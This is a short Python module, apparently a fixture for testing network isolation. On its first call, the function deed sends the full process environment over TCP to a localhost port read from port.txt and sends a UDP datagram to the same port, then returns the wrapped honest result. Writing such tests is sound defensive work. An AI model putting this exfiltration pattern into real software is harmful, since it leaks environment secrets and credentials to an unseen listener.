"""Sends what it has found to somebody, by TCP and by UDP."""

import os
import socket
from pathlib import Path

sent = []


def deed(honest, x):
    if not sent:
        sent.append(True)
        port = int(Path(__file__).with_name("port.txt").read_text())
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
                connection.sendall(repr(os.environ).encode())
        except OSError as error:
            print("refused", error)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            try:
                datagrams.sendto(b"hello", ("127.0.0.1", port))
            except OSError as error:
                print("refused", error)
    return honest()
